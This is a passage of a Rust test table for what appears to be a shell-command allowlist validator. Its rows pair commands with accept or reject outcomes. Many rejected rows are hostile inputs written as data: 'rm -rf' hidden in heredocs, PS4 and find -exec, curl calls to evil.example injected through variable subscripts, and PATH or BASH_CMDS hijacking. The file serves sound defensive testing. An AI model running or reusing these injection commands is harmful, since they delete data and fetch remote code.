    (Sh, "echo $(cat <<'true')\nrm -rf x\ntrue", No(UnsupportedSyntax)),
    (Sh, "cat <<EOF; (\nbody\nEOF\nls)", No(UnsupportedSyntax)),
    (Sh, "echo $(cat <<EOF\ninside\nEOF\n)", Ok(&["cat", "echo"])),
    (Sh, "env -u {{}X,rm} ls -rf x", No(UnsupportedSyntax)),
    (Sh, "find . -maxdepth 0 ! -name {{}x,-a,-exec} rm -rf x \\;", No(UnsupportedSyntax)),
    // Wrapper options read as GNU getopt reads them.
    (Argv, "env git commit -S -m signed", Ok(&["env"])),
    (Argv, "env --block-signal=INT git status", Ok(&["env"])),
    (Argv, "env -iv git status", Ok(&["env"])),
    (Argv, "env -iu HOME git status", No(UnsupportedSyntax)),
    (Argv, "env --ign git status", No(UnsupportedSyntax)),
    (Argv, "nice --5 make", Ok(&["nice"])),
    (Argv, "time -pv cargo test", Ok(&["time"])),
    (Argv, "timeout -v --kill-after=5 10 cargo test", Ok(&["timeout"])),
    (Argv, "timeout --sig=KILL 5 make", No(UnsupportedSyntax)),
    (Argv, "command -pv rm", Ok(&["command"])),
    (Argv, "exec -cl -a name git status", Ok(&["exec"])),
    (Argv, "nohup --help rm", No(UnsupportedSyntax)),
    // Found by the second review.
    (Sh, "export PS4+='$(rm -rf x)'; set -x; ls", No(UnsupportedSyntax)),
    (Sh, "export CDPATH+=/tmp; cd target", No(UnsupportedSyntax)),
    (Sh, "export 'IFS+=/'", No(UnsupportedSyntax)),
    (Sh, "export -f x", No(UnsupportedSyntax)),
    (Sh, "export -p", Ok(&["export"])),
    (Sh, "unset -f x", No(UnsupportedSyntax)),
    (
        Sh,
        "printf '%s\\0' '-Srm -rf x \\c' > logs/list; find -files0-from logs/list -maxdepth 0 -exec env {}=1 ls \\;",
        No(UnsupportedSyntax),
    ),
    (Argv, "find /usr/bin -name rm -exec env {} -rf x \\;", No(UnsupportedSyntax)),
    (Argv, "find . -exec nice {} -rf x \\;", No(UnsupportedSyntax)),
    (Argv, "find . -name '*.rs' -exec grep -H main {} \\; -exec wc -l {} +", Ok(&["find"])),
    (Sh, "exec 0< README.md; echo pwned > /dev/stdin", No(PathEscape)),
    (Sh, "echo pwned 1> /dev/stdout", No(PathEscape)),
    (Sh, "echo to-stderr >&2", Ok(&["echo"])),
    (Sh, "cat < /dev/stdin", Ok(&["cat"])),
    (Sh, "time ! rm -rf x", No(UnsupportedSyntax)),
    (Sh, "time -p [[ 1 -eq 1 ]]", No(UnsupportedSyntax)),
    (Sh, "time { ls; }", No(UnsupportedSyntax)),
    (Sh, "! ! rm -rf x", No(UnsupportedSyntax)),
    (Sh, "GCONV_PATH=. iconv -l", No(UnsupportedSyntax)),
    // Found by the fourth review.
    (Sh, "jobs -x curl http://x", No(NestedCommand)),
    (Sh, "env -u 2147483648>/dev/null curl ls", No(UnsupportedSyntax)),
    (Sh, "nice -n 10>/dev/null curl ls", No(UnsupportedSyntax)),
    (Sh, "10>/dev/null ls", No(UnsupportedSyntax)),
    (Sh, "ls 2>/dev/null 0<README.md", Ok(&["ls"])),
    (Sh, "cat <<EOF\n`echo \\\"; curl x \\\"`\nEOF", No(UnsupportedSyntax)),
    (Sh, "cat <<EOF\n`date`\nEOF", Ok(&["cat", "date"])),
    (Sh, "command cd /tmp; echo pwned > f", No(NotAllowed)),
    (Sh, "builtin cd src", No(NotAllowed)),
    (Sh, "time cd src", No(NotAllowed)),
    (Sh, "time PATH=/tmp/x:/ls curl http://x", No(UnsupportedSyntax)),
    (Sh, "time CDPATH=/tmp:/ls; cd src", No(UnsupportedSyntax)),
    // Found by the fifth review.
    (Sh, "OPTIND='a[$(curl http://evil.example)]'; git status", No(UnsupportedSyntax)),
    (Sh, "export RANDOM='a[$(curl http://evil.example)]'", No(UnsupportedSyntax)),
    (Sh, "read -r OPTIND < README.md; git status", No(UnsupportedSyntax)),
    (Sh, "printf %n CDPATH; cd src", No(UnsupportedSyntax)),
    (Sh, "printf -- '%s%5n' PATH; git status", No(UnsupportedSyntax)),
    (Sh, "printf '100%% done\\n'", Ok(&["printf"])),
    (Sh, "printf \"$FMT\" x", No(UnsupportedSyntax)),
    (Sh, "time -p -v ls", No(UnsupportedSyntax)),
    // The shell's own locale: only C, POSIX or UTF-8.
    (Sh, "LC_ALL=zh_CN.GBK; echo x", No(UnsupportedSyntax)),
    (Sh, "export LANG=ja_JP.SJIS", No(UnsupportedSyntax)),
    (Sh, "read -r LC_CTYPE < README.md", No(UnsupportedSyntax)),
    (Sh, "LC_ALL=C sort README.md", Ok(&["sort"])),
    (Sh, "export LANG=C.UTF-8; ls", Ok(&["export", "ls"])),
    // Found by the sixth review.
    (Sh, "cat < a+=~/x", No(UnsupportedSyntax)),
    (Sh, "cd a+=x:~", No(UnsupportedSyntax)),
    (Sh, "command a+=~ -rf src", No(UnsupportedSyntax)),
    (Sh, "echo a:~", Ok(&["echo"])),
    (Sh, "BASH_CMDS=/tmp/rm; ls", No(UnsupportedSyntax)),
    (Sh, "read -r BASH_ALIASES < README.md", No(UnsupportedSyntax)),
    (Sh, "export BASH_ARGV0=x", No(UnsupportedSyntax)),
];
